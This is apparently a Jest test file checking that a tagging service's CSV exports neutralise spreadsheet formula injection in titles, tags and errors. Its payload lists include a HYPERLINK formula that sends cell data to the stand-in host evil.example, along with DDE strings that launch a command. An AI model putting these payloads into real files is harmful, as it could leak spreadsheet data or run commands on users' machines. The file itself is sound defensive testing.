/**
 * Issue 14, item 5: spreadsheet formulas in anything a document or a client chose (titles from file names,
 * tags, errors) are neutralised in every CSV export. The results.csv of a real batch is read back with
 * papaparse (an independent RFC 4180 reader): no cell starts with =, +, -, @, a tab or a CR.
 */
import Papa from "papaparse";
import { pdfPool } from "../../../sdk/pdf/pool";
import { closeComputePool } from "../../../sdk/compute/pool";
import { writeCsv } from "../../../shared/csv-writer";
import { toCsv } from "../../../web/src/batch/csv";
import { api, startTagger, textPdf, type Stack } from "../tagging/helpers";

jest.setTimeout(180_000);

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTAB=1+1", "\r=1+1"];
const FILE_NAMES = ["=HYPERLINK(evil.example;Open)", "+cmd|' -C calc'!A0", "@SUM(1+1)", "-2+3", "=1+1"];
const FORMULA_START = /^[=+\-@\t\r]/;

let stack: Stack;
let token: string;

beforeAll(async () => {
  ({ stack, token } = await startTagger());
});
afterAll(async () => {
  await stack?.stop();
  await pdfPool.close();
  await closeComputePool();
});

it("neutralises formulas in every cell of a batch's results.csv", async () => {
  const pdf = await textPdf(Array.from({ length: 40 }, (_, i) => `Public budget report line ${i}: revenue, expenditure and audit findings for the fiscal year.`));
  const form = new FormData();
  // File names become titles; a name cannot carry "/" (it is cut to its base name), tab or CR.
  for (const name of FILE_NAMES) form.append("files", new Blob([Buffer.from(pdf)], { type: "application/pdf" }), `${name}.pdf`);
  form.append("config", JSON.stringify({ num_tags: 3 }));
  const start = await api(stack.baseUrl, token, "POST", "/api/batch/start", form);
  expect(start.status).toBe(200);
  const jobId = start.body.job_id as string;
  for (let i = 0; i < 600; i++) {
    const s = await api(stack.baseUrl, token, "GET", `/api/batch/jobs/${jobId}/status`);
    if (["completed", "failed", "cancelled"].includes(s.body.status)) break;
    await new Promise((r) => setTimeout(r, 200));
  }
  const res = await fetch(`${stack.baseUrl}/api/batch/jobs/${jobId}/results.csv`, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  const parsed = Papa.parse<string[]>(await res.text(), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data;
  expect(header).toEqual(["row_number", "title", "file_path", "status", "tags", "error"]);
  expect(rows).toHaveLength(FILE_NAMES.length);
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  // The value is kept, behind the quote a spreadsheet shows as text.
  const titles = rows.map((r) => r[1]);
  expect(titles.sort()).toEqual(FILE_NAMES.map((n) => `'${n}`).sort());
});

it.each(HOSTILE)("guards %j in the shared writer and in the web app's download", (value) => {
  for (const csv of [writeCsv(["v"], [[value]]), toCsv(["v"], [{ v: value }])]) {
    const [, [cell]] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data as [string[], string[]];
    expect(cell).toBe(`'${value}`);
  }
});
